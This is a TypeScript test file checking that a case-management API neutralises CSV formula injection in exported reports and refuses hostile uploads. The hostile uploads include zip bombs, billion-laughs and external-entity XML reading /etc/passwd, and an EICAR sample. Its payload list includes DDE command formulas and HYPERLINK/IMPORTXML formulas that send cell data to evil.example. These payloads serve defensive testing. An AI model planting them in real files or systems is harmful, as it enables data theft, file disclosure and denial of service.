import { gzipSync } from 'node:zlib';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { readSheet } from 'read-excel-file/node';
import type { Report } from '#libs/reporting';
import { csvOf, xlsxOf } from '../../apps/api/src/reports/report-sheet.js';
import { Deployment } from '../support/deployment.js';
import { eicar, Scanner } from '../support/scanner.js';
import { aList, checkedList, importedList, inState, sendList } from '../support/some-lists.js';
import type { Staff } from '../support/staff.js';
import { expectStatus } from '../support/stories.js';
import { zipOf } from '#libs/testing';

let relink: Deployment;
let scanner: Scanner;
let caseworker: Staff;
let colleague: Staff;

beforeAll(async () => {
  scanner = await Scanner.start();
  relink = await Deployment.start({ environment: { RELINK_CLAMD: scanner.address } });
  caseworker = await relink.signIn('caseworker');
  colleague = await relink.signIn('caseworker', 'Highlands');
});
afterAll(async () => {
  await relink.stop();
  await scanner.stop();
});

/** What a spreadsheet runs, fetches or sends when it opens a file (OWASP, CSV injection). */
const FORMULAS = [
  '=1+1',
  `=cmd|' /C calc'!A0`,
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  '=IMPORTXML(CONCAT("http://evil.example?v=", CONCATENATE(A2:E2)), "//a")',
  '+1+cmd|calc',
  '-2+3+cmd|calc',
  '@SUM(1+1)*cmd',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  'safe;=1+1',
  'quote";=1+1',
];
const RUNS = /^[\s]*[=+\-@＝＋－＠]/;

/** Cells of a CSV file as programs read it that separate columns otherwise. */
function cellsOf(csv: string): string[] {
  return [',', ';', '\t'].flatMap((delimiter) =>
    parse(csv, { delimiter, relax_column_count: true, relax_quotes: true }).flat(),
  );
}

describe('What is exported', () => {
  it('runs in no spreadsheet: the report of a list repeats ids and says nothing as a formula', async () => {
    const rows = FORMULAS.map((id, at) => `"${id.replaceAll('"', '""')}",Person ${at}`);
    const { id, run } = await checkedList(caseworker, ['id,name', ...rows, '=2+2,'].join('\n'));
    expect(run).toMatchObject({ added: FORMULAS.length, refused: 1 });
    const report = (await caseworker.download(`/lists/${id}/report`)).toString();
    expect(cellsOf(report).filter((cell) => RUNS.test(cell))).toEqual([]);
    const references = parse<{ reference: string }>(report, { columns: true }).map(({ reference }) => reference);
    for (const formula of FORMULAS)
      expect(references.some((text) => text.replaceAll(/(^|;)'/g, '$1') === formula)).toBe(true);
  });

  it('runs in no spreadsheet: figures, whatever a branch calls itself', async () => {
    const figures = FORMULAS.map((branch) => ({ indicator: 'requests-opened', branch, count: 7 }));
    const report = { year: 2026, quarters: [], figures } as unknown as Report;
    expect(cellsOf(csvOf(report)).filter((cell) => RUNS.test(cell))).toEqual([]);
    const workbook = await xlsxOf(report);
    // A cell of text is never worked out, however it begins.
    const cells = ((await readSheet(workbook)) as unknown[][]).flat();
    for (const formula of FORMULAS) expect(cells).toContain(formula);
    expect(workbook.includes('<f>')).toBe(false);
  });
});

const XML = '<?xml version="1.0" encoding="UTF-8"?>';
const SHEET = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const sheetOf = (rows: string) => ({
  'xl/workbook.xml': `${XML}<workbook xmlns="${SHEET}"><sheets><sheet name="List" sheetId="1"/></sheets></workbook>`,
  'xl/worksheets/sheet1.xml': rows,
});
const LAUGHS = `${XML}<!DOCTYPE lolz [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>`;
const PFIF = '<pfif:pfif xmlns:pfif="http://zesty.ca/pfif/1.4"><pfif:person>';

/** What is refused as a whole: the bytes, the code and, where there is a place in it, the line. */
const REFUSED: [what: string, bytes: () => string | Buffer, code: string, line?: number][] = [
  ['blanks alone', () => ' \n \n', 'import.empty'],
  ['column names alone', () => 'id,name\n', 'import.empty'],
  ['a line without an end', () => `id,name\n1,${'x'.repeat(2_000_000)}`, 'import.line-too-long', 2],
  [
    'a quotation mark that is never closed',
    () => 'id,name\n1,Amina\n2,"Bogdan\n3,Chinwe',
    'import.quote-not-closed',
    3,
  ],
  ['two hundred thousand and one rows', () => `name\n${'a\n'.repeat(200_001)}`, 'import.too-many-rows', 200_002],
  ['a hundred thousand columns', () => `name${',c'.repeat(100_000)}\n1\n`, 'import.too-many-columns', 1],
  ['Latin-1', () => Buffer.from('id,name\n1,Amina\n2,Jos\xe9\n', 'latin1'), 'import.not-unicode', 3],
  [
    'half a character of UTF-16',
    () =>
      Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('id\n', 'utf16le'), Buffer.from([0x00, 0xd8, 0x41, 0x00])]),
    'import.not-unicode',
    1,
  ],
  ['a packed file', () => gzipSync('id,name\n1,Amina\n'), 'import.not-text'],
  ['an old workbook, or one with a password', () => Buffer.from('d0cf11e0a1b11ae1', 'hex'), 'import.not-text'],
  ['an archive that is no workbook', () => zipOf({ 'a.txt': 'text' }), 'import.workbook-damaged'],
  ['a workbook cut off', () => zipOf(sheetOf('<worksheet/>')).subarray(0, 300), 'import.workbook-damaged'],
  [
    'a workbook that unpacks to more than there is room for',
    () => zipOf({ ...sheetOf('<worksheet/>'), 'xl/media/a.xml': Buffer.alloc(201 * 1_048_576) }),
    'import.workbook-too-large',
  ],
  [
    'a workbook with a cell far outside',
    () => zipOf(sheetOf(`${XML}<worksheet xmlns="${SHEET}"><sheetData><row r="9999999"/></sheetData></worksheet>`)),
    'import.workbook-too-large',
  ],
  ['a workbook with entities', () => zipOf(sheetOf(`${LAUGHS}<worksheet>&b;</worksheet>`)), 'import.workbook-damaged'],
  ['a billion laughs', () => `${LAUGHS}\n${PFIF}&b;`, 'import.dtd-refused', 1],
  [
    'entities from elsewhere',
    () => `${XML}\n<!DOCTYPE a SYSTEM "file:///etc/passwd">\n${PFIF}`,
    'import.dtd-refused',
    2,
  ],
  ['broken XML', () => `${XML}\n${PFIF}\n<pfif:full_name>Amina</pfif:name>`, 'import.malformed-xml', 3],
  ['XML of another kind', () => `${XML}<html><body/></html>`, 'import.not-pfif'],
  ['elements a hundred deep', () => `${XML}${PFIF}${'<a>'.repeat(100)}`, 'import.malformed-xml', 1],
  ['what the scanner knows', () => eicar(), 'import.malware'],
];

describe('A hostile list', () => {
  const cases = REFUSED.map(([what, bytes, code, line]) => ({ what, bytes, code, line }));
  it.each(cases)('of $what is refused with a code and the line', async ({ bytes, code, line }) => {
    const { id } = await sendList(caseworker, bytes());
    const { failure, state, actions } = await inState(caseworker, id, 'failed');
    expect({ state, code: failure.code, line: failure.line }).toEqual({ state: 'failed', code, line });
    expect(failure.message).toMatch(/[A-Z].*\.$/);
    expect(actions).toEqual([]);
    const left = await relink.database.sql('SELECT 1 FROM relink.list_pieces WHERE dossier_id = $1', [id]);
    expect(left).toEqual([]);
  });

  it('with a few hostile rows costs the others nothing', async () => {
    const list = await importedList(
      caseworker,
      Buffer.from(`id,name\n1,Am\0ina\n2,${'x'.repeat(300_000)}\n3,Bogdan\n4,Chinwe,one,too,many\n5,\u202eevil\n`),
    );
    expect(list.run).toMatchObject({ done: 5, added: 3, refused: 2 });
    const report = parse<Record<string, string>>(await caseworker.download(`/lists/${list.id}/report`), {
      columns: true,
    });
    expect(report.filter(({ outcome }) => outcome === 'refused')).toMatchObject([
      { line: '3', code: 'input.too-long' },
      { line: '5', code: 'import.columns' },
    ]);
  });

  it('keeps nobody else waiting: others are answered and served meanwhile', async () => {
    const bombs = REFUSED.filter(([what]) => /unpacks|rows/.test(what));
    const sent = await Promise.all(bombs.map(([, bytes]) => sendList(caseworker, bytes())));
    const served = await importedList(colleague, 'id,name\nn77,Nadia Rahimi\n');
    expect(served.run).toMatchObject({ added: 1 });
    await expectStatus(200, colleague.get('/work'));
    for (const { id } of sent) await inState(caseworker, id, 'failed');
  });

  it('larger than what is taken here is refused before it is read', async () => {
    const list = await expectStatus(201, caseworker.post('/lists', aList()));
    const answer = await caseworker.upload(`/lists/${list.id}/content`, Buffer.alloc(26 * 1_048_576), list.version);
    expect(answer.status).toBe(413);
  });
});
